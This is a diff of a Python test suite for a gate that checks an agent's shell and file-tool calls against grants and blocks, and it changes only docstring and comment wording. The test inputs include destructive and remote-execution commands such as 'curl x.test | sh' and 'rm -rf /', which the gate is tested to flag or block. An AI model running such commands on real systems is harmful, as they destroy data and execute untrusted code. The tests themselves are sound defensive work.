@@ -1,4 +1,4 @@
-"""The gate, its grants and its answers, through the public surface."""
+"""The gate, its grants and its answers, through the public interface."""
 
 from __future__ import annotations
 
@@ -51,7 +51,7 @@ class Place(FakeEnvironment):
 
 @dataclass
 class Scope:
-    """As much of a session as a gate sees."""
+    """The part of a session that a gate sees."""
 
     identity: RunIdentity
     environment: Any = field(default_factory=Place)
@@ -87,7 +87,7 @@ def entry(name: str = "terminal", kind: Any = "execute", *, declares: bool = Tru
 
 
 class Desk:
-    """Puts calls to one gate, and a person's answers."""
+    """Passes calls to one gate, and a user's answers."""
 
     def __init__(self, **options: Any) -> None:
         self.audit = Audit()
@@ -109,7 +109,7 @@ class Desk:
         return self.ask(RunsCommand(command, cwd), **more)
 
     def answer(self, decision: Any, payload: Any, session: str = "s1", effects: Sequence[Effect] = (), **more: Any) -> Any:
-        """Hand in an answer, then ask the gate again for the same call."""
+        """Submit an answer, then pass the same call to the gate again."""
         assert isinstance(decision, Suspend), decision
         ticket = decision.ticket
         assert ticket.call is not None
@@ -122,7 +122,7 @@ class Desk:
 
 
 def settled(decision: Any) -> Any:
-    """Where files must be read first, the gate's answer is to be awaited."""
+    """Return the gate's decision. It must be awaited if the gate reads files first."""
     return asyncio.run(decision) if inspect.iscoroutine(decision) else decision
 
 
@@ -164,7 +164,7 @@ def test_once_covers_this_call_only() -> None:
 
 
 def test_a_session_grant_remembers_the_pattern() -> None:
-    """003-26: the same finding does not ask again in this session, and does in another."""
+    """003-26: the same finding is not asked about again in this session, but it is in another."""
     desk = Desk()
     first = desk.run("rm -rf build")
     assert first.ticket.parameters["scopes"] == ["once", "session", "path", "uses", "until", "always"]
@@ -194,7 +194,7 @@ def test_a_session_grant_covers_no_other_finding_and_no_other_folder() -> None:
 
 
 def test_always_is_kept_as_argv_and_folder() -> None:
-    """003-27: written as a plain entry, read back, and it holds in another session."""
+    """003-27: it is written as a plain entry, read back, and valid in another session."""
     desk = Desk()
     desk.answer(desk.run("rm -rf build"), yes("always"))
     (grant,) = run_async(desk.grants.all("any"))
@@ -202,7 +202,8 @@ def test_always_is_kept_as_argv_and_folder() -> None:
     assert stored == {"argv": ["rm", "-rf", "build"], "cwd": CWD, "version": 1}
     later = Desk(grants=MemoryGrants([from_allowlist(stored)]))
     assert later.run("rm  -rf   build", session="s9") is None
-    for command in ("rm -rf 'build'", "ls; rm -rf build"):  # the same simple command, and beside it nothing that asks
+    # the same simple command, and in the second one only harmless text beside it
+    for command in ("rm -rf 'build'", "ls; rm -rf build"):
         assert later.run(command, session="s9") is None, command
     for command in (
         "rm -rf build dist",
@@ -265,7 +266,7 @@ def test_a_block_is_a_block_whatever_was_granted() -> None:
 
 
 def test_file_tools_meet_the_same_rules_as_the_shell() -> None:
-    """003-24: equal effects, equal findings."""
+    """003-24: equal effects have equal findings."""
     desk = Desk(project_root=CWD)
     write = entry("write_file", "edit")
     for path in (
@@ -486,7 +487,7 @@ def test_a_grant_until_a_time_ends() -> None:
 
 
 def test_an_answer_that_is_heard_again_grants_no_more() -> None:
-    """A process that was killed after it had kept the grant, and before the handler ran, hears the answer again."""
+    """A process that was killed after it stored the grant, but before the handler ran, receives the answer again."""
     desk = Desk()
     asked = desk.run("rm -rf a && git push --force")
     ticket = asked.ticket
@@ -523,7 +524,8 @@ def test_an_operators_rule_decides_about_any_tool() -> None:
     assert "no mail from here" in refused.reason
     assert found(desk.ask(tool=entry("look", "read"))) == {"tool.rule@look"}
     assert desk.run("rm -rf build") is None
-    assert found(desk.run("rm -rf build; curl x.test | sh")) == {"code.remote"}  # what is asked every time still is
+    # commands that are asked about every time still are
+    assert found(desk.run("rm -rf build; curl x.test | sh")) == {"code.remote"}
     assert isinstance(desk.run("rm -rf /"), Block)
 
 
@@ -531,5 +533,5 @@ def test_a_tool_rule_that_fails_closes() -> None:
     def broken(name: str, args: Any, paths: Any) -> Any:
         raise RuntimeError("no rules today")
 
-    with pytest.raises(RuntimeError):  # which the dispatcher takes for a block (tests/tools/dispatch/test_gates.py)
+    with pytest.raises(RuntimeError):  # the dispatcher treats it as a block (tests/tools/dispatch/test_gates.py)
         Desk(tool_rules=broken).run("ls")
